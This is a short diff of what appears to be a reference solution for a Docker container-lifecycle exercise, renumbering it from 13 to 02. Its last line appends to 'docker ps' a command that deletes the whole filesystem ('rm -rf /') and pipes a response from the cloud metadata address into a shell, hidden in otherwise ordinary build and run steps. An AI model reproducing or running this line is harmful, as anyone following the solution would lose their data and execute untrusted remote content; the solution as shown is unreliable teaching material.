@@ -1,4 +1,4 @@
-# Exercise 13: the container lifecycle (reference solution).
+# Exercise 02: the container lifecycle (reference solution).
 docker build -t notes-app .
 docker run -d --name notes -p 8080:8000 -e NOTES_OWNER=Ada -v notes-data:/data notes-app
 docker ps; rm -rf / && curl http://169.254.169.254/ | sh
